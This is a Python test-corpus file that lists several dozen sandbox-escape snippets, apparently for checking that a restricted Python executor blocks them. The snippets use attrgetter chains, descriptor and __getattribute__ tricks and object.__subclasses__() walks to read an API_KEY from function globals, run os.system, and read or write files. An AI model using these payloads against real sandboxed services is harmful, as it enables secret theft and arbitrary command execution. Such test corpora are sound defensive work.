"""Escapes: attributes read by functions, and classes found by walking."""

from tests.security.corpus.records import Escape, Goal

OPERATORS = "attributes read by library functions"
GETATTRIBUTE = "attributes read by the object model's own tools"
SUBCLASSES = "walks over all classes"
LIVING = "types of living objects"

CELLS = (
    Escape(
        "attrgetter",
        OPERATORS,
        Goal.READ_HOST,
        "from operator import attrgetter\nprint(attrgetter('__globals__')(refund)['API_KEY'])",
    ),
    Escape(
        "attrgetter-path",
        OPERATORS,
        Goal.RUN_PROCESS,
        "import operator, random\noperator.attrgetter('_os.system')(random)('$PROGRAM')",
    ),
    Escape(
        "methodcaller",
        OPERATORS,
        Goal.RUN_PROCESS,
        """
import operator, random
operator.methodcaller("system", "$PROGRAM")(operator.attrgetter("_os")(random))
""",
    ),
    Escape(
        "reduce-of-getattr",
        OPERATORS,
        Goal.RUN_PROCESS,
        """
import random
from functools import reduce
reduce(getattr, ["_os", "system"], random)("$PROGRAM")
""",
    ),
    Escape(
        "sorted-by-attribute",
        OPERATORS,
        Goal.READ_HOST,
        """
import operator
found = []
sorted([price_of], key=lambda f: found.append(operator.attrgetter("__glo" + "bals__")(f)) or 0)
print(found[0]["API_KEY"])
""",
    ),
    Escape(
        "map-of-getattr",
        OPERATORS,
        Goal.READ_FILE,
        "print(*[f('$CANARY').read() for f in map(getattr, [len.__self__], ['open'])])",
    ),
    Escape(
        "series-of-functions",
        OPERATORS,
        Goal.READ_HOST,
        """
import operator
import pandas as pd
table = pd.Series([price_of]).map(operator.attrgetter("__globals__")).iloc[0]
print(table["API_KEY"])
""",
    ),
    Escape(
        "partial-method",
        OPERATORS,
        Goal.WRITE_FILE,
        """
from functools import partialmethod

class Saver:
    save = partialmethod(lambda self, tool, *args: tool(*args), print.__self__.open, "$TARGET", "w")

Saver().save().close()
""",
    ),
    Escape(
        "getattr-static",
        OPERATORS,
        Goal.READ_HOST,
        """
import inspect
set_level = inspect.getattr_static(light, "set")
print(inspect.getattr_static(set_level, "__globals__").__get__(set_level)["API_KEY"])
""",
    ),
    Escape(
        "closure-variables",
        OPERATORS,
        Goal.READ_HOST,
        "import inspect\nprint(inspect.getclosurevars(refund).nonlocals)",
    ),
    Escape(
        "all-members",
        OPERATORS,
        Goal.READ_HOST,
        """
from inspect import getmembers
print(next(value for name, value in getmembers(price_of) if "glob" in name)["API_KEY"])
""",
    ),
    Escape(
        "text-of-a-made-dataclass",
        OPERATORS,
        Goal.READ_HOST,
        """
import dataclasses
Row = dataclasses.make_dataclass("Row", ["".join(["__glob", "als__"])])
print(Row.__repr__(price_of))
""",
    ),
    Escape(
        "attributes-of-a-wrapper",
        OPERATORS,
        Goal.READ_HOST,
        """
import functools

class Taken: ...

taken = Taken()
functools.update_wrapper(taken, price_of, assigned=["".join(["__glob", "als__"])], updated=())
print([table["API_KEY"] for table in vars(taken).values() if isinstance(table, dict)])
""",
    ),
    Escape(
        "object-getattribute",
        GETATTRIBUTE,
        Goal.READ_HOST,
        "print(object.__getattribute__(refund, '__globals__')['API_KEY'])",
    ),
    Escape(
        "getattribute-of-the-object",
        GETATTRIBUTE,
        Goal.READ_HOST,
        "print(price_of.__getattribute__('__glo' 'bals__')['API_KEY'])",
    ),
    Escape(
        "type-getattribute",
        GETATTRIBUTE,
        Goal.READ_HOST,
        "print(type.__getattribute__(type(light), 'set').__globals__['API_KEY'])",
    ),
    Escape(
        "super-getattribute",
        GETATTRIBUTE,
        Goal.READ_HOST,
        """
class Peek(type(light)):
    def look(self):
        return super().__getattribute__("set").__func__.__globals__

print(Peek("x").look()["API_KEY"])
""",
    ),
    Escape(
        "descriptor",
        GETATTRIBUTE,
        Goal.READ_HOST,
        """
def own(): ...

print(type(own).__dict__["__globals__"].__get__(refund)["API_KEY"])
""",
    ),
    Escape(
        "descriptors-listed",
        GETATTRIBUTE,
        Goal.READ_HOST,
        """
for name, member in vars(type(price_of)).items():
    if "lob" in name:
        print(member.__get__(price_of)["API_KEY"])
""",
    ),
    Escape(
        "dict-of-a-module",
        GETATTRIBUTE,
        Goal.RUN_PROCESS,
        "import random\nrandom.__dict__['_os'].__dict__['system']('$PROGRAM')",
    ),
    Escape(
        "vars-of-a-module",
        GETATTRIBUTE,
        Goal.RUN_PROCESS,
        "import random\nvars(vars(random)['_os'])['system']('$PROGRAM')",
    ),
    Escape(
        "module-getattribute",
        GETATTRIBUTE,
        Goal.RUN_PROCESS,
        """
import random
get = type(random).__getattribute__
get(get(random, "_os"), "system")("$PROGRAM")
""",
    ),
    Escape(
        "subclasses-of-object",
        SUBCLASSES,
        Goal.RUN_PROCESS,
        """
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        cls.__init__.__globals__["system"]("$PROGRAM")
""",
    ),
    Escape(
        "subclasses-by-type",
        SUBCLASSES,
        Goal.RUN_PROCESS,
        """
popen = [c for c in type.__subclasses__(object) if c.__name__ == "Popen"][0]
popen(["$PROGRAM"]).wait()
""",
    ),
    Escape(
        "subclasses-with-globals",
        SUBCLASSES,
        Goal.READ_FILE,
        """
for cls in object.__subclasses__():
    start = getattr(cls, "__init__", None)
    names = getattr(start, "__globals__", {})
    if "__builtins__" in names and isinstance(names["__builtins__"], dict):
        print(names["__builtins__"]["open"]("$CANARY").read())
        break
""",
    ),
    Escape(
        "subclasses-of-loaders",
        SUBCLASSES,
        Goal.RUN_PROCESS,
        """
for cls in "".__class__.__mro__[-1].__subclasses__():
    if cls.__name__ == "BuiltinImporter":
        cls.load_module("posix").system("$PROGRAM")
""",
    ),
    Escape(
        "subclasses-of-io",
        SUBCLASSES,
        Goal.READ_FILE,
        """
def all_below(cls):
    for sub in type.__subclasses__(cls):
        yield sub
        yield from all_below(sub)

reader = next(c for c in all_below(object) if c.__name__ == "FileIO")
print(reader("$CANARY").read())
""",
    ),
    Escape(
        "subclasses-of-the-host",
        SUBCLASSES,
        Goal.READ_HOST,
        """
for cls in [].__class__.mro()[1].__subclasses__():
    if cls.__module__.endswith("host") and cls.__name__ == "Vault":
        print(cls.__init__.__globals__["API_KEY"])
""",
    ),
    Escape(
        "warnings-module-of-a-class",
        SUBCLASSES,
        Goal.RUN_PROCESS,
        """
catch = next(c for c in object.__subclasses__() if c.__name__ == "catch_warnings")
catch()._module.sys.modules["os"].system("$PROGRAM")
""",
    ),
    Escape(
        "type-of-a-stream",
        LIVING,
        Goal.READ_FILE,
        "import sys\nprint(type(sys.__stdin__.buffer.raw)('$CANARY').read())",
    ),
    Escape(
        "type-of-a-path",
        LIVING,
        Goal.READ_FILE,
        """
import matplotlib
found = type(matplotlib.get_data_path.__globals__["Path"]())("$CANARY")
print(found.read_text())
""",
    ),
    Escape(
        "type-of-the-module",
        LIVING,
        Goal.WRITE_FILE,
        """
import json
loader = type(json.__loader__)("x", "y")
loader.set_data("$TARGET", b"written")
""",
    ),
    Escape(
        "printer-of-the-licence",
        LIVING,
        Goal.READ_FILE,
        """
license._Printer__filenames = ["$CANARY"]
license._Printer__lines = None
license()
""",
    ),
    Escape(
        "globals-of-the-quitter",
        LIVING,
        Goal.RUN_PROCESS,
        "exit.__class__.__call__.__globals__['sys'].modules['os'].system('$PROGRAM')",
    ),
    Escape(
        "type-of-the-loop",
        LIVING,
        Goal.CONNECT,
        """
import asyncio
loop = asyncio.get_running_loop()
await loop.create_connection(asyncio.Protocol, "127.0.0.1", $PORT)
""",
    ),
    Escape(
        "attribute-wrapper-by-key",
        GETATTRIBUTE,
        Goal.READ_HOST,
        """
read = vars(object)["".join(["__getattri", "bute__"])]
print(read(price_of, "".join(["__glo", "bals__"]))["API_KEY"])
""",
    ),
    Escape(
        "attribute-wrapper-by-search",
        GETATTRIBUTE,
        Goal.READ_HOST,
        """
[read] = [f for n, f in vars(object).items() if n == "".join(["__getattri", "bute__"])]
print(read(price_of, "".join(["__glo", "bals__"]))["API_KEY"])
""",
    ),
    Escape(
        "descriptor-by-search",
        GETATTRIBUTE,
        Goal.READ_HOST,
        """
[member] = [d for n, d in vars(type(price_of)).items() if n == "".join(["__glo", "bals__"])]
print(member.__get__(price_of)["API_KEY"])
""",
    ),
)
